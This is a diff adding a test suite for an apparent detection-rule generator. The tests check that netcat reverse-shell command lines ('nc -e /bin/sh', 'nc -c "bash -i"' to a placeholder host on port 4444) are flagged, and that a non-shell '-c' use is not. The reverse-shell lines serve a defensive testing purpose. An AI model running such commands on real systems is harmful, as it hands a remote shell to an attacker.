@@ -126,3 +126,17 @@ describe('persistence that is described', () => {
     );
   });
 });
+
+describe('netcat', () => {
+  it.each([
+    ['nc -c /bin/sh marten.example.net 4444', "a1: '-c' a2|endswith: 'sh'"],
+    ['nc marten.example.net 4444 -c "bash -i"', "a3: '-c' a4|contains: 'bash'"],
+    ['nc -e /bin/sh marten.example.net 4444', "a1: '-e'"],
+  ])('hands over a shell where the line names one: %s', async (line, expected) => {
+    expect((await detectionsOf(line)).replaceAll(/\s+/g, ' ')).toContain(expected);
+  });
+
+  it('hands over none where -c is only its encryption', async () => {
+    expect(await detectionsOf('nc -c marten.example.net 4444')).not.toContain("'-c'");
+  });
+});
